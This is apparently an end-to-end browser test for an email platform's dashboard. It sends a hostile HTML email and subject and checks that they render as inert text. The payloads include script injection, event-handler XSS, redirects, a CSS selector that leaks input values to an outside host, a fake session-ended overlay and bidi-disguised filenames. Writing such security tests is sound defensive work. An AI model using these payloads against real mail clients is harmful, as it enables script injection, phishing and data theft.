// An email that attacks whoever looks at it: nothing of it runs, nothing is asked for, and the page stays as it is.

import { expect } from "bun:test";
import { journey, useSandbox } from "../../support/browser/journey.ts";
import { signInToSandbox } from "../../support/browser/people.ts";
import { startStranger } from "../../support/browser/stranger.ts";

const sandbox = useSandbox();

const buildHtml = (url: string) => `<!doctype html><head>
<base href="${url}/base/"><meta http-equiv="refresh" content="0; url=${url}/refresh">
<link rel="stylesheet" href="${url}/style"><link rel="dns-prefetch" href="${url}"><link rel="preload" as="image" href="${url}/preload">
<style>@import "${url}/import"; @font-face { font-family: x; src: url(${url}/font) } body { font-family: x; background: url(${url}/background) }
input[value^="a"] { background: url(${url}/exfiltrate) }</style></head><body onload="fetch('${url}/onload')">
<script>parent.owned = top.owned = 1; fetch("${url}/script"); window.open("${url}/open"); top.location = "${url}/top"</script>
<img src="${url}/image" srcset="${url}/srcset 2x" onerror="top.owned = 1"><iframe src="${url}/frame"></iframe><object data="${url}/object"></object>
<video poster="${url}/poster" src="${url}/video" autoplay></video><svg><image href="${url}/svg" /><script>top.owned = 1</script></svg>
<form id="f" action="${url}/form" target="_top"><input name="q" value="a" autofocus onfocus="top.owned = 1"></form>
<a href="${url}/click" target="_top">Click</a></textarea></pre></div><script>top.owned = 1</script>
<p style="position: fixed; inset: 0; background: red; z-index: 99999">Your session has ended</p>`;

/** Markup, overrides of direction, joiners, and a word that never ends. */
const SUBJECT = `<img src=x onerror="owned=1"><script>owned=1</script>\u202E\u2066gnp.exe\u2069 \u200D${"W".repeat(10_000)}`;
/** No longer one is accepted. */
const MAX_SUBJECT = 255;

journey("a hostile email is shown as text: no request, no breach, the page unmoved", async ({ visit, cleanup }) => {
  const { origin, apiKey, workspaceId, domain } = sandbox();
  const stranger = startStranger();
  cleanup.add(() => stranger[Symbol.asyncDispose]());
  const headers = { "x-api-key": apiKey, "content-type": "application/json" };
  const from = `"<b>Ana</b>" <a@${domain}>`;
  const send = async (subject: string) => {
    const answer = await fetch(`${origin}/api/v1/emails`, {
      method: "POST",
      headers,
      body: JSON.stringify({ from, to: "rui@example.com", subject, html: buildHtml(stranger.neighbour) }),
    });
    return (await answer.json()) as { data?: { id: string }; errors?: { field?: string }[] };
  };
  expect((await send(SUBJECT.slice(0, 10_000))).errors).toMatchObject([{ field: "subject" }]);
  const { data } = await send(SUBJECT.slice(0, MAX_SUBJECT));
  const ana = await visit(origin);
  await signInToSandbox(ana, sandbox());
  const { page } = ana;
  for (const path of ["", "/emails", `/emails/${data?.id ?? ""}`]) {
    const url = `/dashboard/w/${workspaceId}${path}`;
    await page.setViewportSize({ width: path === "/emails" ? 320 : 1280, height: 800 });
    await page.goto(url);
    await page.getByText("<img src=x").first().waitFor();
    for (const summary of await page.locator("summary").all()) await summary.click();
    // What a message begins by itself it has begun when two frames are drawn.
    await page.evaluate("new Promise((done) => requestAnimationFrame(() => requestAnimationFrame(done)))");
    expect(new URL(page.url()).pathname).toBe(url);
    expect(await page.evaluate("globalThis.owned ?? null")).toBeNull();
    expect(await page.title()).not.toMatch(/<img|[\u202A-\u202E\u2066-\u2069]/);
    expect(await page.evaluate<number>("document.documentElement.scrollWidth - innerWidth")).toBeLessThanOrEqual(0);
  }
  // Pasted into the palette, as words and as an address.
  await page.keyboard.press("ControlOrMeta+K");
  const palette = page.getByRole("dialog");
  for (const words of [SUBJECT, `${SUBJECT.replaceAll(/\s/g, "")}@example.com`]) {
    await palette.getByRole("combobox").fill(words);
    await palette.getByText(words === SUBJECT ? "Nothing fits." : "Emails to").waitFor();
    const { width = Infinity } = (await palette.boundingBox()) ?? {};
    expect(width).toBeLessThan(800);
    expect(await palette.locator("img, script").count()).toBe(0);
  }
  expect(await page.evaluate<number>("document.documentElement.scrollWidth - innerWidth")).toBeLessThanOrEqual(0);
  expect(await page.evaluate("globalThis.owned ?? null")).toBeNull();
  expect(ana.context.pages()).toHaveLength(1);
  expect(stranger.heard).toEqual([]);
});
